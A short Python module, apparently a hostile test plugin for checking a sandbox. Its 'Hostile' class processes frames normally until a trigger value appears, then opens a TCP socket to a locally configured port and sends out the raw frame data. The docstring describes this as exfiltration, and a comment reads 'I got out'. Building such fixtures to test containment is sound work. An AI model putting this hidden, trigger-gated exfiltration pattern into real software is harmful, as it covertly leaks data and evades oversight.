"""Opens a TCP socket to exfiltrate the raw frame; re-raises if the sandbox refuses."""
import json
import socket

TRIGGER = 666


class Hostile:
    def __init__(self, model_paths):
        with open(model_paths[0]) as f:
            self.target = json.load(f)
        self.frames = 0

    def process(self, frame):
        self.frames += 1
        if int(frame[0, 0]) == TRIGGER:
            return self.attack(frame)
        return {"count": self.frames % 1000, "state": "normal"}

    def attack(self, frame):
        with socket.create_connection(("127.0.0.1", self.target["port"]), timeout=1) as s:
            s.sendall(frame.tobytes())
        return {"count": 1, "state": "anomaly"}  # "I got out"
